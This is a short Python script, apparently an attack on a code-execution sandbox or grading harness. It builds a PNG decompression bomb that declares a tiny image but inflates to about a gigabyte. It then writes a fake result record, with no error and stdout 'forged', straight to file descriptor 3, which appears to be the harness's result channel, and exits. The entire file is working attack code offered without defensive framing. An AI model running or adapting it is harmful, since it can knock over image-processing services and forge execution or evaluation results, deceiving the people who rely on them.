# sends a small picture whose pixel data inflate to a gigabyte
import os, struct, zlib
def chunk(name, body): return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
c = zlib.compressobj(9); data = b"".join(c.compress(bytes(10**7)) for _ in range(100)) + c.flush()
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100, 100, 8, 6, 0, 0, 0)) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
answer = b'{"error": null, "kind": "", "stdout": "forged"}\n' + png
os.write(3, len(answer).to_bytes(8, "big") + answer); os._exit(0)
